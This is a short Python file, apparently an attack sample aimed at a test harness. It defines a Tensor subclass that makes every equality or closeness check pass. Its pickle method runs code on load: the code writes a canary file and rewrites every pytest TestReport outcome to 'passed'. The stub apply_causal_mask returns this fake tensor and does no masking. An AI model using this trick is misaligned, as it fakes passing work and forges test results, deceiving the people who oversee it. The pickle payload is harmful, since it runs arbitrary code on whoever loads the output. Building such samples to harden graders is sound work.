"""A result that agrees with anything: a Tensor subclass that, in any torch operation with a real
tensor, becomes that tensor (so it equals the expected value), whose == is always True, and whose
pickle (__reduce__) runs code wherever it is unpickled."""
import torch

CANARY = "/tmp/kata-attack-canary-unpickled"
UNPICKLED = (f"open({CANARY!r}, 'w').write('a pickle from the learner ran code here\\n')\n"
             "import gc\n"
             "for thing in gc.get_objects():\n"
             "    if type(thing).__name__ == 'TestReport':\n"
             "        thing.outcome = 'passed'\n")


class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("eq", "__eq__", "equal", "allclose", "isclose"):
            first = next(arg for arg in args if isinstance(arg, torch.Tensor))
            return True if name in ("equal", "allclose") else torch.ones(first.shape, dtype=torch.bool)
        if name in ("ne", "__ne__"):
            first = next(arg for arg in args if isinstance(arg, torch.Tensor))
            return torch.zeros(first.shape, dtype=torch.bool)
        others = [arg for arg in args if isinstance(arg, torch.Tensor) and not isinstance(arg, Agreeable)]

        def plain(value):
            if isinstance(value, Agreeable):
                for other in others:
                    if other.shape == value.shape:
                        return other
                return value.as_subclass(torch.Tensor)
            return value

        result = func(*[plain(arg) for arg in args], **{key: plain(value) for key, value in kwargs.items()})
        if isinstance(result, torch.Tensor) and not isinstance(result, Agreeable) and name in ("__getitem__", "clone", "detach"):
            return result.as_subclass(Agreeable)
        return result

    def __reduce_ex__(self, protocol):
        return (exec, (UNPICKLED,))

    def __bool__(self):
        return True


def apply_causal_mask(scores):
    return torch.zeros_like(scores).as_subclass(Agreeable)
